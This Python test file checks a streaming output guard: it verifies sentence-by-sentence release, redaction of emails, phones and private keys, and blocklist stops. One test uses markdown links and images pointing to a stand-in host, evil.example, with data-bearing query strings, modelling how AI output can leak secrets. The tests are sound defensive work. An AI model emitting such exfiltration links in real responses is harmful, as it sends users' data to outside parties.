"""Streaming: text leaves sentence by sentence, never ahead of its check."""

import asyncio

from guard.chain import Guard
from guard.policy import load_policy
from guard.streaming import OutputStream, guarded, release_point, sse_event, stream_step

GUARD = Guard(load_policy())


def feed_all(chunks: list[str]) -> tuple[list[str], OutputStream]:
    stream = OutputStream(GUARD)
    released = [stream.feed(chunk).released for chunk in chunks]
    released.append(stream.finish().released)
    return released, stream


def test_nothing_is_released_before_its_sentence_ends() -> None:
    released, _ = feed_all(["The answer", " is 42", ". It", " is well known", ".", ""])
    assert released == ["", "", "The answer is 42. ", "", "", "", "It is well known."]


def test_pii_split_across_chunks_is_redacted_before_release() -> None:
    chunks = ["Write to ja", "ne@exam", "ple.com for help", ". Thanks!"]
    released, _ = feed_all(chunks)
    joined = "".join(released)
    assert joined == "Write to [REDACTED:EMAIL] for help. Thanks!"
    assert all("ja" not in r or "REDACTED" in r for r in released)


def test_an_open_link_or_key_block_is_held_until_it_closes() -> None:
    assert release_point("See [the report. It is long](https://evil.example/?d=") == len("See ")
    assert release_point("Intro. ![x](https://evil.example/a.png?q=") == len("Intro. ")
    key_text = "Here it is.\n-----BEGIN PRIVATE KEY-----\nMIIEvQ\n"
    assert release_point(key_text) == len("Here it is.\n")
    released, _ = feed_all(
        ["Here it is.\n-----BEGIN PRIVATE KEY-----\n", "MIIEvQIBADAN\n", "-----END PRIVATE KEY-----\nDone."]
    )
    assert "".join(released) == "Here it is.\n[REDACTED:PRIVATE_KEY]\nDone."
    assert "".join(feed_all(["Look: ![chart](https://evil.example/c.png?d=", "c2VjcmV0IGRhdGEgaGVyZQ==) ok. "])[0]) == (
        "Look: [image: chart] ok. "
    )


def test_a_blocked_sentence_stops_the_stream() -> None:
    policy = load_policy()
    guard = Guard(
        policy.model_copy(
            update={
                "output": policy.output.model_copy(
                    update={"blocklist": policy.output.blocklist.model_copy(update={"terms": ("acme",)})}
                )
            }
        )
    )
    stream = OutputStream(guard)
    assert stream.feed("Fine so far. ").released == "Fine so far. "
    step = stream.feed("Buy Acme now. More text. ")
    assert step.blocked and step.released == "" and step.verdict.blocked_by == ("blocklist",)
    assert stream.feed("anything").blocked and stream.finish().released == ""


def test_a_long_run_without_sentence_ends_is_released_in_pieces() -> None:
    text = "word " * 600
    cut = release_point(text)
    assert 0 < cut <= 2000 and text[:cut].endswith(" ")


def test_the_stateless_step_carries_pending_between_calls() -> None:
    first = stream_step(GUARD, "", "Call me at 555-123")
    assert (first.released, first.pending) == ("", "Call me at 555-123")
    second = stream_step(GUARD, first.pending, "-4567 today. Bye")
    assert second.released == "Call me at [REDACTED:PHONE] today. " and second.pending == "Bye"
    last = stream_step(GUARD, second.pending, "", final=True)
    assert (last.released, last.pending) == ("Bye", "")
    assert second.to_json()["rails"][0]["rail"] == "pii"


def test_guarded_wraps_an_async_source_for_server_sent_events() -> None:
    async def tokens():
        for token in ["Mail ", "a@b.io", ". ", "Done", "."]:
            yield token

    async def collect() -> list[str]:
        return [sse_event({"text": step.released}) async for step in guarded(tokens(), GUARD)]

    events = asyncio.run(collect())
    assert events == ['data: {"text": "Mail [REDACTED:EMAIL]. "}\n\n', 'data: {"text": "Done."}\n\n']
